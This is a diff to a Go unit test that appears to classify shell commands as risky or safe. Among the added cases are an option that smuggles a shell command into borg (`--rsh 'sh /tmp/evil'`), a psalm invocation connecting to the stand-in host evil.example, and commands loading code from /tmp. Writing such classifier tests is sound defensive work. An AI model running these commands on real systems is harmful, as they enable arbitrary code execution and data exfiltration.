@@ -102,6 +102,12 @@ func TestToolVariables(t *testing.T) {
 		`swift build -Xswiftc -O`:                       false,
 		`swift build -Xswiftc -load -Xswiftc /tmp/x.so`: true,
 		`perl -I/tmp/evil a.pl`:                         true,
+		`borg --rsh 'sh /tmp/evil' list x`:              true,
+		`borg list x`:                                   false,
+		`rebar3 do eunit, hex publish`:                  true,
+		`swiftlint --fix --path /tmp/x`:                 true,
+		`swiftlint --fix`:                               false,
+		`psalm --language-server --tcp=evil.example:1`:  true,
 		`bazel run //:push_image`:                       true,
 		`bazel run //app:server`:                        false,
 	} {
